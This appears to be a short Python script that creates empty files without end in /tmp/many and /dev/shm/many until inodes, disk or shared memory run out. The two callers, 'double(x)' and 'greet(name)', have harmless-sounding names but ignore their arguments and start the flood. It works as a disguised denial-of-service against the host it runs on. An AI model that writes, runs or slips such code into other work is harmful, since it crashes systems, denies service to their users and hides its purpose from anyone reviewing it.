import os

FILES = 0

def fill(folder):
    global FILES
    os.makedirs(folder, exist_ok=True)
    while True:
        os.close(os.open(f"{folder}/{FILES:0200d}", os.O_CREAT | os.O_WRONLY))
        FILES += 1
        if FILES % 50000 == 0:
            print("files:", FILES, flush=True)
def double(x):
    fill("/tmp/many")
def greet(name):
    fill("/dev/shm/many")
